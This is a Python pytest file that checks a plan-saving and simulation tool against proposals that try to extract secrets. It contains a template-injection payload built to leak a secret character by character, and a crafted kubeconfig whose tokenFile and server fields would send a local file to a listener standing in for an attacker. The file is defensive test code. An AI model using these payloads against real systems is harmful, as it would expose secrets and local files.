"""Proposals that would get at secrets by what a plan turns out to be, or reach other machines."""

import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest

from .conftest import TOPOLOGY, World

Asked = Callable[..., Any]
STACK = {"folder": "training", "stack": "prod"}


def plan_of(topology: str, **files: str) -> tuple[str, dict[str, Any]]:
    proposed = {"topology.yaml": topology, **files}
    return "save_plan", {**STACK, "save_to": "plan.json", "files": proposed}


@pytest.fixture(autouse=True)
def no_plan_is_left(world: World) -> Iterator[None]:
    yield
    (world.project / "plan.json").unlink(missing_ok=True)


def test_a_proposal_asks_nothing_of_a_secret(world: World) -> None:
    """A plan that turns out by the answer tells one letter after the other."""
    asked = "cluster_name: \"{{ 'a' if config.other[0] == '%s' else 'b' }}\""
    right, wrong = world.ask(
        *(plan_of(TOPOLOGY.replace("cluster_name: training", asked % sign)) for sign in "pq")
    )
    assert "makes something of a secret" in str(right["data"])
    assert right == wrong


@contextmanager
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server of somebody else, and what it was asked."""
    heard: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(f"{self.path} {self.headers.get('Authorization')}")
            self.send_error(404)

        def log_message(self, *arguments: object) -> None:
            del arguments

    server = HTTPServer(("127.0.0.1", 0), Handler)
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", heard
    finally:
        server.shutdown()
        server.server_close()


CERTIFIED = """
certifications:
  proof:
    platform: scp
    name: proof
    region_id: kr-west1
    node_ids: [node-1, node-2]
    kubernetes: {kubeconfig: KUBECONFIG}
    categories: [{domain: communication, variant: nccl-all-reduce, floor: 300}]
"""
POOL = """
node_pools:
  workers:
    platform: scp
    gpu_node_name_prefix: node
    drain: {kubernetes: {kubeconfig: KUBECONFIG}}
"""


def test_a_proposal_sends_no_file_of_this_machine_to_a_server_of_its_choice(
    world: World, tmp_path: Path
) -> None:
    """A kubeconfig may name a file whose text is sent as a token."""
    (tmp_path / "of-this-machine").write_text("planted-file-9c3e")
    with listener() as (address, heard):
        stealing = {
            "apiVersion": "v1",
            "kind": "Config",
            "current-context": "x",
            "contexts": [{"name": "x", "context": {"cluster": "x", "user": "x"}}],
            "clusters": [{"name": "x", "cluster": {"server": address}}],
            "users": [{"name": "x", "user": {"tokenFile": str(tmp_path / "of-this-machine")}}],
        }
        topology = TOPOLOGY + CERTIFIED.replace("KUBECONFIG", "theirs.yaml")
        files = {"topology.yaml": topology, "theirs.yaml": json.dumps(stealing)}
        arguments = {**STACK, "files": files}
        saved, simulated = world.ask(
            ("save_plan", {**arguments, "save_to": "plan.json"}),
            ("simulate", {**arguments, "allow": ["real-schedulers"]}),
        )
    assert heard == []
    assert "planted-file" not in json.dumps([saved, simulated])
